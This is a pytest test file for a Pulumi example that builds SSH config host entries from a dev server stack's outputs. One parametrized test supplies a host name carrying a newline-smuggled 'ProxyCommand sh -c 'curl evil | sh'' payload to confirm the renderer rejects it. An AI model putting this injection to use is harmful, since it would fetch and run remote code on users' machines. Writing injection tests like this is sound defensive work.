"""The StackReference example: what it renders and how it reads a dev server stack.

The program tests drive the real `examples/ssh-config/__main__.py` under Pulumi mocks; the mocks
answer the StackReference read the way the engine does (`outputs`, `secretOutputNames`).
"""

from __future__ import annotations

import asyncio
import runpy
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pulumi
import pytest

EXAMPLE_DIR = Path(__file__).resolve().parents[2] / "examples" / "ssh-config"
PROJECT = "devserver-ssh-config"
DEVSERVER_STACK = "acme/devserver/alice"

# The documented StackReference contract of a deployed dev server, with fake values.
ALICE = {
    "instanceId": "i-0123456789abcdef0",
    "publicIp": "203.0.113.10",
    "publicDns": "ec2-203-0-113-10.eu-west-1.compute.amazonaws.com",
    "sshCommand": "ssh alice@ec2-203-0-113-10.eu-west-1.compute.amazonaws.com",
    "user": "alice",
    "arch": "aarch64",
    "amiId": "ami-0123456789abcdef0",
    "availabilityZone": "eu-west-1a",
    "homeVolumeId": "vol-0123456789abcdef0",
    "instanceRoleArn": "arn:aws:iam::123456789012:role/devserver-alice",
    "githubTokenSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:gh-AbCdEf",
    "securityGroupId": "sg-0123456789abcdef0",
}


@pytest.fixture
def ssh_config_module(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.syspath_prepend(str(EXAMPLE_DIR))
    monkeypatch.delitem(sys.modules, "ssh_config", raising=False)
    import ssh_config

    return ssh_config


class DevserverStackMocks(pulumi.runtime.Mocks):
    """Serves one dev server stack's outputs to StackReference; records every resource."""

    def __init__(self, outputs: dict[str, Any]) -> None:
        self.outputs = outputs
        self.resources: list[pulumi.runtime.MockResourceArgs] = []

    def new_resource(self, args: pulumi.runtime.MockResourceArgs) -> tuple[str, dict[str, Any]]:
        self.resources.append(args)
        if args.typ == "pulumi:pulumi:StackReference":
            if args.inputs["name"] != DEVSERVER_STACK:
                raise LookupError(f"no stack {args.inputs['name']!r}")
            state = {"name": args.inputs["name"], "outputs": self.outputs, "secretOutputNames": []}
            return args.inputs["name"], state
        if args.typ == "aws:route53/record:Record":
            return f"{args.inputs['zoneId']}_{args.inputs['name']}_CNAME", {
                **args.inputs,
                "fqdn": args.inputs["name"],
            }
        return f"{args.name}-id", dict(args.inputs)

    def call(self, args: pulumi.runtime.MockCallArgs) -> tuple[dict[str, Any], None]:
        raise NotImplementedError(f"the example calls no functions, got {args.token}")


RunExample = Callable[[dict[str, str], dict[str, Any]], tuple[DevserverStackMocks, dict[str, Any]]]


@pytest.fixture
def run_example(monkeypatch: pytest.MonkeyPatch) -> Iterator[RunExample]:
    """Run the example program under fresh mocks and config; return the mocks and its exports."""
    monkeypatch.syspath_prepend(str(EXAMPLE_DIR))

    def run(
        config: dict[str, str], outputs: dict[str, Any]
    ) -> tuple[DevserverStackMocks, dict[str, Any]]:
        mocks = DevserverStackMocks(outputs)
        pulumi.runtime.settings.reset_options(project=PROJECT, stack="test")
        pulumi.runtime.set_mocks(mocks, project=PROJECT, stack="test", preview=False)
        pulumi.runtime.set_all_config({f"{PROJECT}:{key}": value for key, value in config.items()})
        runpy.run_path(str(EXAMPLE_DIR / "__main__.py"), run_name="__main__")
        root = pulumi.runtime.get_root_resource()
        assert root is not None
        return mocks, root.outputs  # type: ignore[attr-defined]

    yield run
    # Leave no mocks, config or root stack behind for whichever test runs next.
    pulumi.runtime.set_all_config({})
    pulumi.runtime.settings.reset_options()
    # pytest-asyncio unsets the thread's loop after an async test; sync Pulumi tests need one.
    asyncio.set_event_loop(asyncio.new_event_loop())


# --- Rendering (pure) -------------------------------------------------------------------------


def test_host_block_points_at_the_server_without_forwarding_the_agent(
    ssh_config_module: Any,
) -> None:
    block = ssh_config_module.host_block(
        "devserver", ALICE["publicDns"], "alice", ALICE["instanceId"], "~/.ssh/id_ed25519"
    )
    assert block.splitlines() == [
        "Host devserver",
        f"    HostName {ALICE['publicDns']}",
        "    User alice",
        "    ForwardAgent no",
        "    ServerAliveInterval 60",
        f"    HostKeyAlias {ALICE['instanceId']}",
        "    IdentityFile ~/.ssh/id_ed25519",
        "    IdentitiesOnly yes",
    ]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("host_name", "example.com\n    ProxyCommand sh -c 'curl evil | sh'"),
        ("user", "alice bob"),
        ("alias", "dev#comment"),
        ("host_name", ""),
    ],
)
def test_values_that_would_inject_ssh_directives_are_refused(
    ssh_config_module: Any, field: str, value: str
) -> None:
    args = {"alias": "devserver", "host_name": ALICE["publicDns"], "user": "alice", field: value}
    with pytest.raises(ssh_config_module.SshConfigError, match="must be a plain host"):
        ssh_config_module.host_block(**args)


def test_every_server_of_a_fleet_gets_its_own_host(ssh_config_module: Any) -> None:
    bob = {**ALICE, "user": "bob", "publicDns": "ec2-198-51-100-7.compute.amazonaws.com"}
    text = ssh_config_module.host_blocks({**ALICE, "servers": {"gpu": bob, "arm": ALICE}}, "dev")
    hosts = [line for line in text.splitlines() if line.startswith("Host ")]
    assert hosts == ["Host dev", "Host dev-arm", "Host dev-gpu"]
    assert "    User bob" in text.split("Host dev-gpu")[1]


# A stopped instance has an empty publicDns: say so instead of writing `HostName ` to the file.
def test_a_server_without_public_name_is_reported_by_output_name(ssh_config_module: Any) -> None:
    with pytest.raises(ssh_config_module.SshConfigError, match="no 'publicDns' output value"):
        ssh_config_module.host_blocks({**ALICE, "publicDns": ""}, "devserver")


# --- The program, reading the stack through StackReference ------------------------------------


async def test_program_renders_the_ssh_entry_from_the_referenced_stack(
    run_example: RunExample,
) -> None:
    mocks, exports = run_example({"devserverStack": DEVSERVER_STACK, "hostAlias": "alice"}, ALICE)

    ssh_config = await exports["sshConfig"].future()

    assert ssh_config.splitlines()[:3] == [
        "Host alice",
        f"    HostName {ALICE['publicDns']}",
        "    User alice",
    ]
    references = [r for r in mocks.resources if r.typ == "pulumi:pulumi:StackReference"]
    assert [r.inputs["name"] for r in references] == [DEVSERVER_STACK]
    assert set(exports) == {"sshConfig"}, "no DNS record unless a zone is configured"


async def test_program_points_a_stable_dns_name_at_the_server_when_a_zone_is_given(
    run_example: RunExample,
) -> None:
    config = {
        "devserverStack": DEVSERVER_STACK,
        "dnsZoneId": "Z0123456789ABCDEFGHIJ",
        "dnsName": "alice.dev.example.com",
    }
    mocks, exports = run_example(config, ALICE)

    ssh_config = await exports["sshConfig"].future()
    records = [r for r in mocks.resources if r.typ == "aws:route53/record:Record"]

    assert len(records) == 1
    assert records[0].inputs["type"] == "CNAME"
    assert records[0].inputs["records"] == [ALICE["publicDns"]]
    assert await exports["dnsName"].future() == "alice.dev.example.com"
    assert "    HostName alice.dev.example.com" in ssh_config.splitlines()
